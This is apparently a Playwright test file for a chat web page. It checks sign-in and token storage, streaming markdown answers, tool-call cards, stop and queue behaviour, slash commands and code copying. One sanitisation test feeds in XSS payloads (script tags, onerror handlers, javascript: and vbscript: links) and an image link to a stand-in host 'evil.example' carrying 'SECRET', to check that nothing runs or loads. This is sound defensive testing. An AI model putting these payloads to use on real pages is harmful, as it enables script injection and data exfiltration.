/** The page in a real browser: signing in, following an answer as it grows, and hostile texts. */
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { chooseFromAccount, signIn, WAIT, write } from './browser/browser.ts';
import { describePageOnFakeGateway, TOKEN } from './browser/describe-page.ts';

describePageOnFakeGateway('the page', (tab, fixture) => {
  beforeEach(() => tab.open(fixture.api.url));

  describe('signing in', () => {
    it('explains a wrong token, accepts a valid one, and never puts it in the address', async () => {
      await tab.page.getByLabel('Token').fill('wrong');
      await tab.page.keyboard.press('Enter');
      await tab.page.getByText('That token is not valid.').waitFor();
      await signIn(tab.page, TOKEN);
      await tab.page.getByText('What would you like to talk about?').waitFor();
      expect(tab.page.url()).not.toContain('token');
      expect(await tab.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 1]);
      await tab.page.reload();
      await tab.page.getByText('What would you like to talk about?').waitFor();
    });

    it('keeps the token on the device only when asked to, and removes it on sign-out', async () => {
      await tab.page.getByLabel('Keep me signed in').check();
      await signIn(tab.page, TOKEN);
      expect(await tab.page.evaluate(() => localStorage.length)).toBe(1);
      await chooseFromAccount(tab.page, 'sign-out');
      await tab.page.getByLabel('Token').waitFor();
      expect(await tab.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
    });

    it('asks for a token again when the current one is revoked', async () => {
      await signIn(tab.page, TOKEN);
      await fixture.ask('hello');
      fixture.api.gateway.tokens.clear();
      await tab.page.getByLabel('Token').waitFor();
      await expect
        .poll(() => tab.page.getByRole('alert').first().innerText(), WAIT)
        .toContain('That token is not valid.');
    });
  });

  describe('an answer', () => {
    beforeEach(() => signIn(tab.page, TOKEN));

    it('grows token by token and ends as exactly the stored text (B-43)', async () => {
      const turn = await fixture.ask('tell me');
      await tab.page.getByLabel('Working on the answer').waitFor();
      turn.say('Once **upon**');
      await tab.page.locator('.md strong', { hasText: 'upon' }).waitFor();
      turn.say(' a time');
      await tab.page.locator('.md', { hasText: 'Once upon a time' }).waitFor();
      turn.end();
      await tab.page.locator('.turn-foot time').waitFor();
      await expect.poll(() => tab.page.locator('.md').allInnerTexts(), WAIT).toEqual(['Once upon a time']);
      expect(turn.final?.content).toBe('Once **upon** a time');
      await expect.poll(() => tab.page.locator('#announcer').innerText(), WAIT).toContain('a time');
    });

    it('applies markup as soon as it opens, and shows what never closes as it was written', async () => {
      const turn = await fixture.ask('tell me');
      turn.say('Once **upon a');
      const strong = tab.page.locator('.md strong', { hasText: 'upon a' });
      await strong.waitFor();
      await expect.poll(() => tab.page.locator('.md').innerText(), WAIT).toBe('Once upon a');
      turn.say(' time** there was 1 **tree');
      await tab.page.locator('.md strong', { hasText: 'tree' }).waitFor();
      await expect
        .poll(() => tab.page.locator('.md').innerText(), WAIT)
        .toBe('Once upon a time there was 1 tree');
      turn.end();
      await tab.page.locator('.md', { hasText: 'Once upon a time there was 1 **tree' }).waitFor();
    });

    it('shows a text that was loaded only once when its events arrive late', async () => {
      const turn = await fixture.ask('look twice');
      turn.say('First I look.');
      turn.tool('read_file', { path: 'notes.md' });
      // What happened before is loaded, as by a reader who comes when the events are no longer kept.
      fixture.api.gateway.events.replay = () => ({ events: [] });
      await tab.page.reload();
      await tab.page.locator('.md', { hasText: 'First I look.' }).waitFor();
      turn.emit({ type: 'stream_chunk', msgId: `msg-${turn.id}-1`, delta: 'First I look.' });
      turn.say('Then I speak.');
      await tab.page.locator('.md', { hasText: 'Then I speak.' }).waitFor();
      expect((await tab.page.locator('.answer .md').allInnerTexts()).join(' ')).toBe(
        'First I look. Then I speak.',
      );
    });

    it('folds its thinking and shows tool calls as cards, running and done (B-42, N-53)', async () => {
      const turn = await fixture.ask('look');
      turn.think('First I look, ', 'then I speak.');
      const thinking = tab.page.locator('details.thinking');
      await thinking.getByText('Thought for').waitFor();
      expect(await thinking.getByText('First I look').isVisible()).toBe(false);
      await thinking.locator('summary').click();
      await thinking.getByText('First I look, then I speak.').waitFor();
      const call = turn.tool('read_file', { path: 'notes.md' });
      const card = tab.page.locator('.tool');
      await card.getByText('running…').waitFor();
      turn.result(call, 'read_file', 'three lines');
      await card.getByText('done', { exact: true }).waitFor();
      expect(await card.getByText('three lines').isVisible()).toBe(false);
      await card.locator('summary').click();
      await card.getByText('three lines').waitFor();
      const lost = turn.tool('list_dir', {});
      expect(lost).toMatch(/call/);
      turn.end('stopped');
      await tab.page.getByText('not finished').waitFor();
    });

    it('stops when the Stop button is pressed', async () => {
      const turn = await fixture.ask('a long story');
      turn.say('It was');
      await tab.page.getByRole('button', { name: 'Stop the answer' }).click();
      await tab.page.locator('.md em', { hasText: '(stopped)' }).waitFor();
      expect(turn.stopped.signal.aborted).toBe(true);
      await tab.page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden' });
      // The two paragraphs are in one element or in two, by when they came.
      const shown = (await tab.page.locator('.md').allInnerTexts()).join(' ');
      expect(shown.replaceAll(/\s+/g, ' ')).toBe('It was (stopped)');
    });

    it('shows how many messages are ahead of it', async () => {
      const first = await fixture.ask('one');
      await write(tab.page, 'two');
      await tab.page.getByText('Waiting: one message is ahead of this one.').waitFor();
      await write(tab.page, 'three');
      await tab.page.getByText('Waiting: 2 messages are ahead of this one.').waitFor();
      first.say('Answer one');
      first.end();
      await tab.page.getByText('Waiting: 2 messages').waitFor({ state: 'hidden' });
      fixture.turns[1]?.say('Answer two');
      fixture.turns[1]?.end();
      await tab.page.locator('.md', { hasText: 'Answer two' }).waitFor();
      const shown = await tab.page.locator('.message-text, .md').allInnerTexts();
      expect(shown).toEqual(['one', 'Answer one', 'two', 'Answer two', 'three']);
    });

    it('offers the commands of the gateway after a slash, by keyboard and by mouse', async () => {
      const field = tab.page.getByLabel('Message', { exact: true });
      const menu = tab.page.getByRole('listbox', { name: 'Commands' });
      await field.pressSequentially('/');
      await vi.waitFor(async () => expect(await menu.getByRole('option').count()).toBe(5), WAIT);
      await field.press('ArrowUp');
      expect(await menu.getByRole('option', { selected: true }).innerText()).toContain('/help');
      await tab.screenshot('commands');
      await field.press('Escape');
      await menu.waitFor({ state: 'hidden' });
      await field.pressSequentially('m');
      await field.press('Enter');
      expect(await field.inputValue()).toBe('/mode ');
      await field.fill('/st');
      await menu.getByRole('option').nth(1).click();
      expect(await field.inputValue()).toBe('/status');
      await field.fill('/status');
      await field.press('Enter');
      await tab.page.locator('.message-text', { hasText: '/status' }).waitFor();
      expect(await field.inputValue()).toBe('');
      expect(await menu.isVisible()).toBe(false);
    });

    it('shows why it failed (B-47)', async () => {
      const turn = await fixture.ask('hello');
      turn.end('failed', 'No model server answers. Start it with "ollama serve".');
      const error = tab.page.locator('.turn-error');
      await error.waitFor();
      await expect
        .poll(() => error.innerText(), WAIT)
        .toBe('No model server answers. Start it with "ollama serve".');
    });

    it('starts over when a model call is repeated', async () => {
      const turn = await fixture.ask('hello');
      turn.say('Good mor');
      await tab.page.locator('.md', { hasText: 'Good mor' }).waitFor();
      turn.reset();
      turn.say('Bonjour');
      turn.end();
      await tab.page.locator('.turn-foot time').waitFor();
      await expect.poll(() => tab.page.locator('.md').allInnerTexts(), WAIT).toEqual(['Bonjour']);
    });

    it('continues in the same paragraph after a snapshot', async () => {
      const turn = await fixture.ask('hello');
      turn.say('one **bo');
      await tab.page.locator('.md', { hasText: 'bo' }).waitFor();
      turn.snapshot();
      turn.say('ld** word');
      await tab.page.locator('.md strong', { hasText: 'bold' }).waitFor();
      await expect.poll(() => tab.page.locator('.md').allInnerTexts(), WAIT).toEqual(['one bold word']);
      turn.end();
    });

    it('cannot run, load or embed anything, whatever the model writes', async () => {
      const turn = await fixture.ask('<img src=x onerror=alert(1)>');
      turn.say(
        '<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n',
        '![x](https://evil.example/?d=SECRET) [click](javascript:alert(3)) [data](data:text/html,hi)\n\n',
        '[quote](https://ok.example/"onmouseover="alert(4)) <https://ok.example/a>\n\n',
        '| a | <b onclick=alert(5)>b</b> |\n|---|---|\n| `<i>` | [z](vbscript:x) |\n',
      );
      turn.end();
      await tab.page.locator('.turn-foot time').waitFor();
      expect(await tab.page.locator('.turn :is(script, img, iframe, b, i:not(.dots i))').count()).toBe(0);
      const hrefs = await tab.page
        .locator('.turn a')
        .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
      expect(hrefs.every((href) => href?.startsWith('https://') === true)).toBe(true);
      expect(hrefs).toHaveLength(3);
      expect(await tab.page.locator('.md').innerText()).toContain('<script>alert(1)</script>');
    });

    it('keeps the button of code that is whole when the answer ends, so that a press on it is confirmed', async () => {
      const turn = await fixture.ask('code');
      turn.say('```js\nconst a = 1;\n```\n');
      const button = tab.page.getByRole('button', { name: 'Copy the code' });
      await tab.page.locator('.code', { hasText: 'const a = 1;' }).waitFor();
      const before = await button.elementHandle();
      turn.end();
      await tab.page.locator('.turn-foot time').waitFor();
      await tab.page.evaluate(
        () => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))),
      );
      expect(await before?.evaluate((element) => element.isConnected)).toBe(true);
    });

    it('shows code unchanged, with a button to copy it', async () => {
      await tab.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      const turn = await fixture.ask('code');
      turn.say('```js\nconst a = "<b>";\n  indented();\n', '```\n');
      turn.end();
      // Until then each part of the answer draws the block anew.
      await tab.page.locator('.turn-foot time').waitFor();
      await tab.page.getByRole('button', { name: 'Copy the code' }).click();
      await tab.page.getByText('Copied').waitFor();
      expect(await tab.page.evaluate(() => navigator.clipboard.readText())).toBe(
        'const a = "<b>";\n  indented();',
      );
    });
  });
});
